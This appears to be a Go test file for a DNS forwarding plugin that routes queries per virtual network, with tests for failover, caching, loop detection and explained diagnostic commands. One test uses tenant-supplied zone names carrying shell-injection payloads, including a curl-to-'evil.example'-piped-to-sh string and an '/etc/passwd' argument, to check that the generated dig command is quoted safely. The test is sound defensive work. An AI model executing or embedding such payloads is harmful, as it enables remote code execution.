// SPDX-License-Identifier: Apache-2.0

package ovnforward

import (
	"context"
	"fmt"
	"net/netip"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coredns/coredns/plugin"
	"github.com/coredns/coredns/plugin/test"
	"github.com/miekg/dns"

	"github.com/puntdns/puntdns/internal/cachekey"
	"github.com/puntdns/puntdns/internal/control/api"
	"github.com/puntdns/puntdns/internal/explain"
	"github.com/puntdns/puntdns/internal/origin"
	"github.com/puntdns/puntdns/internal/ovn"
)

const next = "none, NOTZONE"

func TestServeDNS(t *testing.T) {
	red, deep, blue := newNameserver(t, "192.0.2.1"), newNameserver(t, "192.0.2.2"), newNameserver(t, "192.0.2.3")
	r := newRig(t, ports(red.AddrPort, deep.AddrPort, blue.AddrPort))
	r.forward("red", fmt.Sprintf("corp.example=%s;deep.corp.example=%s;10.in-addr.arpa=%s", red, deep, red))
	r.forward("blue", fmt.Sprintf("corp.example=%s", blue))
	query := func(qname string, qtype uint16, change func(*dns.Msg)) *dns.Msg {
		m := new(dns.Msg).SetQuestion(qname, qtype)
		if change != nil {
			change(m)
		}
		return m
	}
	for _, tt := range []struct {
		name, who string
		query     *dns.Msg
		want      string
	}{
		{"the zone", "red", query("corp.example.", dns.TypeA, nil), "NOERROR 192.0.2.1"},
		{"a name of it", "red", query("Www.Corp.Example.", dns.TypeA, nil), "NOERROR 192.0.2.1"},
		{"the longest zone", "red", query("www.deep.corp.example.", dns.TypeA, nil), "NOERROR 192.0.2.2"},
		{"another network", "blue", query("www.deep.corp.example.", dns.TypeA, nil), "NOERROR 192.0.2.3"},
		{"a reverse zone", "red", query("1.0.0.10.in-addr.arpa.", dns.TypePTR, nil), "NOERROR 192.0.2.1"},
		{"not that of the other", "blue", query("1.0.0.10.in-addr.arpa.", dns.TypePTR, nil), next},
		{"another name", "red", query("www.example.", dns.TypeA, nil), next},
		{"DS of the zone", "blue", query("corp.example.", dns.TypeDS, nil), next},
		{"a network that is not known", "green", query("corp.example.", dns.TypeA, nil), next},
		{"class CH", "red", query("corp.example.", dns.TypeTXT, func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS }), "none, REFUSED"},
		{"class ANY", "red", query("corp.example.", dns.TypeA, func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassANY }), "NOERROR 192.0.2.1"},
		{"a transfer", "red", query("corp.example.", dns.TypeAXFR, nil), "none, REFUSED"},
		{"an update", "red", query("corp.example.", dns.TypeSOA, func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate }), "none, NOTIMP"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := r.send(r.as(tt.who), tt.query, false); got != tt.want {
				t.Errorf("%q, want %q", got, tt.want)
			}
		})
	}
	if got := r.send(t.Context(), query("corp.example.", dns.TypeA, nil), false); got != next {
		t.Errorf("from a socket: %q", got)
	}
	r.defaultSwitch = ovn.SwitchRef{Name: "blue"}
	if got := r.send(t.Context(), query("corp.example.", dns.TypeA, nil), false); got != "NOERROR 192.0.2.3" {
		t.Errorf("from a socket with a default switch: %q", got)
	}
	if blue.asked() != "2 0" {
		t.Errorf("blue's server was asked %s times", blue.asked())
	}
}

// Over TCP the server is asked over TCP, and so it is if its answer does not fit.
func TestTCP(t *testing.T) {
	up := newNameserver(t, "192.0.2.1")
	r := newRig(t, ports(up.AddrPort))
	r.forward("red", "corp.example="+up.String())
	for _, tt := range []struct {
		qname string
		tcp   bool
		asked string
	}{
		{"www.corp.example.", true, "0 1"},
		{"www.corp.example.", false, "1 1"},
		{"big.corp.example.", false, "2 2"},
		{"big.corp.example.", true, "2 3"},
	} {
		if got := r.send(r.as("red"), new(dns.Msg).SetQuestion(tt.qname, dns.TypeA), tt.tcp); got != "NOERROR 192.0.2.1" || up.asked() != tt.asked {
			t.Errorf("%s, TCP %v: %q, the server was asked %s, want %s", tt.qname, tt.tcp, got, up.asked(), tt.asked)
		}
	}
}

// The next server is asked if one does not answer, and nobody else if none does.
func TestServers(t *testing.T) {
	up := newNameserver(t, "192.0.2.1")
	dead, noConnection := silent(t), deaf(t)
	r := newRig(t, ports(up.AddrPort, dead, noConnection)+"\n max_servers 2\n max_zones 5")
	r.lastAttempt = 30 * time.Second                                         // else a server that is asked late is not asked
	wrong := netip.AddrPortFrom(netip.MustParseAddr("127.0.0.2"), up.Port()) // the node's, and not allowed
	r.forward("red", fmt.Sprintf("a=%[1]s,%[2]s;b=%[1]s;c=%[3]s,%[2]s;d=%[3]s,%[3]s;e=ns1;f=%[2]s", dead, up, wrong))
	r.forward("blue", fmt.Sprintf("a=%s,%s,%s;b=%s,%[3]s", wrong, dead, up, noConnection))
	edns := func(qname string) *dns.Msg { return new(dns.Msg).SetQuestion(qname, dns.TypeA).SetEdns0(1232, false) }
	for _, tt := range []struct {
		name, who, qname string
		tcp              bool
		want             string
	}{
		{"the second answers", "red", "a.", false, "NOERROR 192.0.2.1"},
		{"none answers", "red", "b.", false, "SERVFAIL EDE 22"},
		{"the first may not be asked", "red", "c.", false, "NOERROR 192.0.2.1"},
		{"none may be asked", "red", "d.", false, "SERVFAIL EDE 22"},
		{"none can be read", "red", "e.", false, "SERVFAIL EDE 22"},
		{"a zone over the limit", "red", "f.", false, "SERVFAIL EDE 22"},
		{"a server over the limit", "blue", "a.", false, "SERVFAIL EDE 22"},
		{"the first takes no connection", "blue", "b.", true, "NOERROR 192.0.2.1"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := r.send(r.as(tt.who), edns(tt.qname), tt.tcp); got != tt.want {
				t.Errorf("%q, want %q", got, tt.want)
			}
		})
	}
	t.Cleanup(func() {
		if n := r.next.Load(); n > 0 {
			t.Errorf("the next plugin was asked %d times", n)
		}
		if got := r.ask("red", "b.", dns.TypeA); got != "SERVFAIL" {
			t.Errorf("without EDNS: %q", got)
		}
	})
}

// A change of the servers is followed, and those that nobody names are stopped.
func TestChange(t *testing.T) {
	first, second := newNameserver(t, "192.0.2.1"), newNameserver(t, "192.0.2.2")
	r := newRig(t, ports(first.AddrPort, second.AddrPort))
	live := func(want ...netip.AddrPort) {
		t.Helper()
		wait(t, func() string {
			r.pool.mu.Lock()
			defer r.pool.mu.Unlock()
			if len(r.pool.all) != len(want) {
				return fmt.Sprintf("%d servers, want %d", len(r.pool.all), len(want))
			}
			for _, s := range want {
				if r.pool.all[s] == nil {
					return fmt.Sprintf("%s is not in use", s)
				}
			}
			return ""
		})
	}
	r.forward("red", "corp.example="+first.String())
	live()
	if got := r.ask("red", "www.corp.example.", dns.TypeA); got != "NOERROR 192.0.2.1" {
		t.Error(got)
	}
	live(first.AddrPort)
	r.forward("blue", "corp.example="+first.String())
	r.forward("red", "corp.example="+second.String())
	if got := r.ask("red", "www.corp.example.", dns.TypeA); got != "NOERROR 192.0.2.2" {
		t.Error(got)
	}
	live(first.AddrPort, second.AddrPort)
	r.forward("blue", "")
	live(second.AddrPort)
	r.forward("red", "other.example=10.0.0.1")
	live()
	if got := r.ask("red", "www.corp.example.", dns.TypeA); got != next {
		t.Error(got)
	}
	wait(t, func() string {
		if counts := r.reviewer.counts(); counts[reasonSpecial] != 1 {
			return fmt.Sprint(counts)
		}
		return ""
	})
}

// A server gets no options of EDNS, and the guest's flags.
func TestWithoutOptions(t *testing.T) {
	up := newNameserver(t, "192.0.2.1")
	r := newRig(t, ports(up.AddrPort))
	r.forward("red", "corp.example="+up.String())
	m := new(dns.Msg).SetQuestion("www.corp.example.", dns.TypeA).SetEdns0(1400, true)
	m.CheckingDisabled, m.RecursionDesired = true, false
	m.IsEdns0().Option = []dns.EDNS0{&dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: []byte("secret")}}
	if got := r.send(r.as("red"), m, false); got != "NOERROR 192.0.2.1" {
		t.Fatal(got)
	}
	got := up.last.Load()
	if o := got.IsEdns0(); o == nil || len(o.Option) > 0 || o.UDPSize() != 1400 || !o.Do() || !got.CheckingDisabled || got.RecursionDesired {
		t.Errorf("the server is asked %v", got)
	}
	if len(m.IsEdns0().Option) != 1 {
		t.Error("the guest's query was changed")
	}
}

// With *cache* the query goes on, with a key that says who is asked.
func TestThroughCache(t *testing.T) {
	up := newNameserver(t, "192.0.2.1")
	r := newRig(t, ports(up.AddrPort))
	r.throughCache = true
	keys := map[string]bool{}
	r.Next = plugin.HandlerFunc(func(ctx context.Context, w dns.ResponseWriter, m *dns.Msg) (int, error) {
		keys[cachekey.Of(ctx)] = true
		return cachekey.HandlerOf(ctx).ServeDNS(ctx, w, m)
	})
	ask := func(who, text string, want int) {
		t.Helper()
		r.forward(who, text)
		for range 2 {
			if got := r.ask(who, "www.corp.example.", dns.TypeA); got != "NOERROR 192.0.2.1" {
				t.Error(got)
			}
		}
		if len(keys) != want {
			t.Errorf("%s has %s: %d keys, want %d", who, text, len(keys), want)
		}
	}
	ask("red", "corp.example="+up.String(), 1)
	ask("blue", "corp.example="+up.String(), 2)
	ask("red", "www.corp.example="+up.String(), 3)
	ask("red", "corp.example="+up.String()+",192.0.2.9", 4)
	ask("red", "corp.example="+up.String(), 4)
}

// A server of the zone that asks for its names is not asked itself.
func TestLoop(t *testing.T) {
	up := newNameserver(t, "192.0.2.1")
	r := newRig(t, ports(up.AddrPort))
	r.forward("red", "corp.example=10.0.0.5,"+up.String()+";other.example="+up.String())
	for _, tt := range []struct {
		name, qname string
		hijacked    bool
		repeats     int
		want        string
		looped      bool
	}{
		{"its own zone", "www.corp.example.", false, 0, "none, SERVFAIL", true},
		{"its own zone, hijacked", "www.corp.example.", true, 0, "resumed", true},
		{"another zone", "www.other.example.", false, 7, "NOERROR 192.0.2.1", false},
		{"another zone, hijacked", "www.other.example.", true, 0, "NOERROR 192.0.2.1", false},
		{"repeated", "www.other.example.", false, manyRepeats, "none, SERVFAIL", true},
		{"repeated, hijacked", "www.other.example.", true, manyRepeats, "resumed", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			o := *mustOrigin(t, r.as("red"))
			x, resumed := &exchangeStub{repeats: tt.repeats}, resumer(false)
			if o.Hijacked = tt.hijacked; tt.hijacked {
				o.Resumer = &resumed
			}
			ctx := context.WithValue(origin.NewContext(t.Context(), &o), origin.ExchangeKey{}, origin.Exchange(x))
			got := r.send(ctx, new(dns.Msg).SetQuestion(tt.qname, dns.TypeA), false)
			if resumed {
				got = strings.Replace(got, "none, NOERROR", "resumed", 1)
			}
			if got != tt.want || x.looped != tt.looped {
				t.Errorf("%q, looped %v, want %q, %v", got, x.looped, tt.want, tt.looped)
			}
			e := explain.New()
			defer e.End()
			r.send(e.Context(ctx), new(dns.Msg).SetQuestion(tt.qname, dns.TypeA), false)
			if notes := strings.Join(e.Report().Notes, "\n"); strings.Contains(notes, "which is a loop") != tt.looped {
				t.Errorf("explained: %q", notes)
			}
		})
	}
}

// What an operator is to paste into a shell asks the server for the zone, whatever the tenant has named
// it.
func TestExplainedCommands(t *testing.T) {
	r := newRig(t, "")
	for _, zone := range []string{
		"corp.example.", "`{curl,evil.example/x}|sh`.corp.", "a|nonexistent.", "a>/nonexistent/x.", "$(false).corp.", "it's.corp.", "a b.corp.", "-f/etc/passwd.", "@9.9.9.9.", "+tcp.",
	} {
		t.Run(zone, func(t *testing.T) {
			r.forward("red", zone+"=10.99.0.1:5353") // which the policy refuses
			of := ""
			for z := range r.source.Snapshot().NetworkByName("red").Forwards.All() {
				of = z.Zone
			}
			e := explain.New()
			defer e.End()
			r.send(e.Context(r.as("red")), new(dns.Msg).SetQuestion("www."+of, dns.TypeA), false)
			found := e.Report().Findings
			if of == "" || len(found) != 1 || len(found[0].Commands) != 1 {
				t.Fatalf("zone %q: %+v", of, found)
			}
			line, ok := strings.CutPrefix(found[0].Commands[0], "dig ")
			out, err := exec.Command("sh", "-c", "printf '%s\\n' "+line).Output()
			if want := "@10.99.0.1\n-p\n5353\n-q\n" + of + "\n"; !ok || err != nil || string(out) != want {
				t.Errorf("%s: the shell has %q, %v, want %q", line, out, err, want)
			}
		})
	}
}

// However often a guest repeats its question, that is no loop as long as *cache* answers.
func TestRepeatedFromCache(t *testing.T) {
	up := newNameserver(t, "192.0.2.1")
	r := newRig(t, ports(up.AddrPort))
	r.forward("red", "corp.example="+up.String())
	r.throughCache = true
	cached := false
	r.Next = plugin.HandlerFunc(func(ctx context.Context, w dns.ResponseWriter, m *dns.Msg) (int, error) {
		if cached {
			return dns.RcodeSuccess, w.WriteMsg(new(dns.Msg).SetReply(m))
		}
		return cachekey.HandlerOf(ctx).ServeDNS(ctx, w, m)
	})
	for _, want := range []string{"none, SERVFAIL", "NOERROR"} {
		x := &exchangeStub{repeats: manyRepeats}
		ctx := context.WithValue(r.as("red"), origin.ExchangeKey{}, origin.Exchange(x))
		if got := r.send(ctx, new(dns.Msg).SetQuestion("www.corp.example.", dns.TypeA), false); got != want || x.looped == cached {
			t.Errorf("cached %v: %q, looped %v, want %q", cached, got, x.looped, want)
		}
		cached = true
	}
}

func mustOrigin(t *testing.T, ctx context.Context) *origin.Origin {
	t.Helper()
	o, ok := origin.FromContext(ctx)
	if !ok {
		t.Fatal("no origin")
	}
	return o
}

// manyRepeats are so many that they count as a loop.
const manyRepeats = 8

// exchangeStub is an origin.Exchange with repeats.
type exchangeStub struct {
	origin.Exchange
	repeats int
	looped  bool
}

func (x *exchangeStub) IsRepeated() bool { return x.repeats >= manyRepeats }
func (x *exchangeStub) SetLooped()       { x.looped = true }

// resumer is set by Resume.
type resumer bool

func (r *resumer) Resume() error { *r = true; return nil }

// A query that no zone has costs no allocation beside those of the next plugin.
func TestAllocations(t *testing.T) {
	r := newRig(t, "")
	r.forward("red", "corp.example=192.0.2.1;other.example=192.0.2.1")
	h, m, w := r.Handler, new(dns.Msg).SetQuestion("a.b.c.d.example.org.", dns.TypeA), &test.ResponseWriter{}
	for _, who := range []string{"red", "blue"} {
		ctx := r.as(who)
		without := testing.AllocsPerRun(100, func() { _, _ = plugin.NextOrFailure(Name, h.Next, ctx, w, m) })
		if n := testing.AllocsPerRun(100, func() { _, _ = h.ServeDNS(ctx, w, m) }); n > without {
			t.Errorf("%s: %v allocations, want %v", who, n, without)
		}
	}
}

// The status warns of servers that are not asked, as long as networks name them.
func TestTellStatus(t *testing.T) {
	r := newRig(t, "")
	warnings := func() []api.Problem {
		var s api.Status
		addStatus(t.Context(), &s)
		return s.Warnings
	}
	r.forward("red", "corp.example=10.9.9.9;other.example=192.0.2.53:99")
	wait(t, func() string {
		got := warnings()
		if len(got) == 1 && got[0].Code == api.CodeRefusedServers && strings.Contains(got[0].Text, "not asked: 2, such as: ") && strings.Contains(got[0].Text, "forwards corp.example. to 10.9.9.9:53") {
			return ""
		}
		return fmt.Sprintf("%+v", got)
	})
	r.forward("red", "corp.example=127.0.0.1")
	wait(t, func() string {
		if got := warnings(); len(got) > 0 {
			return fmt.Sprintf("%+v", got)
		}
		return ""
	})
}

// A server's failure that *cache* has stored tells both what the server has said, and that it is stored.
func TestStoredFailure(t *testing.T) {
	r := new(dns.Msg).SetQuestion("a.test.", dns.TypeA)
	r.SetEdns0(1232, true)
	m := new(dns.Msg).SetRcode(r, dns.RcodeServerFailure)
	m.SetEdns0(1232, true)
	m.IsEdns0().Option = []dns.EDNS0{&dns.EDNS0_EDE{InfoCode: dns.ExtendedErrorCodeDNSBogus}}
	w := &recorder{}
	if err := (&errorAnnotator{w, r, &forwarder{}}).WriteMsg(m); err != nil {
		t.Fatal(err)
	}
	var codes []uint16
	for _, o := range w.msg.IsEdns0().Option {
		codes = append(codes, o.(*dns.EDNS0_EDE).InfoCode)
	}
	if !slices.Equal(codes, []uint16{dns.ExtendedErrorCodeDNSBogus, dns.ExtendedErrorCodeCachedError}) || len(m.IsEdns0().Option) != 1 {
		t.Errorf("%v, and what is stored has become %v", w.msg, m)
	}
}
